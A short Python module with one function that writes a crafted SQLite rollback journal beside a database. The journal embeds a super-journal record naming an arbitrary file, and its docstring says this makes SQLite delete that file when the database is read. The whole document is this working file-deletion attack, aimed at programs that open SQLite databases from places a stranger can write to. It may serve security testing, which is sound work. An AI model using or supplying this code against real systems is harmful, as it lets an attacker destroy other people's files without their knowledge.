"""Journals of SQLite that a stranger may put beside a database."""

from __future__ import annotations

import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512


def plant_journal(database: Path, other: Path) -> None:
    """Write a journal beside a database that makes SQLite delete ``other`` when it reads the database."""
    data = database.read_bytes()
    (page,) = struct.unpack(">H", data[16:18])
    name = bytes(other)
    header = MAGIC + struct.pack(">5I", 0, 0, len(data) // page, SECTOR, page)
    checksum = sum(struct.unpack(f"{len(name)}b", name)) & 0xFFFFFFFF
    end = struct.pack(">I", (1 << 30) // page + 1) + name + struct.pack(">2I", len(name), checksum) + MAGIC
    Path(f"{database}-journal").write_bytes(header.ljust(SECTOR, b"\0") + end)
